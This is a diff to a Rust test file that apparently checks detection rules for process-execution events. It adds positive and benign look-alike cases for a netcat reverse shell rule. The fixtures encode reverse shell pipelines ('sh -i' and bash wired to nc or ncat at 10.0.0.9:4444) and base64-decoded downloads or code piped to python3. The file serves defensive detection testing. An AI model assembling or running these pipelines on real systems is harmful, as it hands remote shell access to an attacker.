@@ -206,6 +206,10 @@ fn positives() -> Vec<(&'static str, ExecEvent)> {
         ("piped_encoded_code_execution", piped(ev("/usr/bin/base64", &["base64", "--decode"]), None, Some(&["python3"]))),
         ("piped_encoded_download", piped(ev("/usr/bin/base64", &["base64", "-d"]), Some(&["curl", "-s", "http://x/p"]), None)),
         ("piped_encoded_download", piped(ev("/usr/bin/wget", &["wget", "-qO-", "http://x/p"]), None, Some(&["base64", "-d"]))),
+        ("reverse_shell_netcat_pipeline", piped(ev("/usr/bin/dash", &["sh", "-i"]), Some(&["cat", "/tmp/f"]), Some(&["nc", "10.0.0.9", "4444"]))),
+        ("reverse_shell_netcat_pipeline", piped(ev("/usr/bin/bash", &["bash"]), Some(&["nc", "-l", "-p", "4444"]), None)),
+        ("reverse_shell_netcat_pipeline", piped(ev("/usr/bin/nc", &["nc", "10.0.0.9", "4444"]), Some(&["sh", "-i"]), None)),
+        ("reverse_shell_netcat_pipeline", piped(ev("/usr/bin/ncat", &["ncat", "10.0.0.9", "4444"]), None, Some(&["bash"]))),
         ("script_from_temp_dir", script_at(ev("/usr/bin/dash", &["/bin/sh", "/tmp/x.sh"]), "/tmp/x.sh")),
         ("script_from_temp_dir", script_at(ev("/usr/bin/python3.11", &["python3", "-u", "/var/tmp/.c/p.py"]), "/var/tmp/.c/p.py")),
         ("script_from_temp_dir", script_at(ev("/usr/bin/bash", &["bash", "/usr/share/.x/run"]), "/usr/share/.x/run")),
@@ -245,6 +249,19 @@ fn positives() -> Vec<(&'static str, ExecEvent)> {
 /// (rule, look-alike event it must NOT fire on): the benign side of each rule.
 fn negatives() -> Vec<(&'static str, ExecEvent)> {
     vec![
+        // A script's output shipped with netcat, and netcat fed by a script: no shell reads commands.
+        (
+            "reverse_shell_netcat_pipeline",
+            piped(ev("/usr/bin/dash", &["sh", "./ship-logs.sh"]), None, Some(&["nc", "logs", "514"])),
+        ),
+        (
+            "reverse_shell_netcat_pipeline",
+            piped(ev("/usr/bin/nc", &["nc", "logs", "514"]), Some(&["sh", "-c", "tail -f app.log"]), None),
+        ),
+        (
+            "reverse_shell_netcat_pipeline",
+            piped(ev("/usr/bin/dash", &["sh", "-i"]), Some(&["cat", "cmds"]), Some(&["tee", "out"])),
+        ),
         (
             "reverse_shell_stdio_socket",
             stdin(
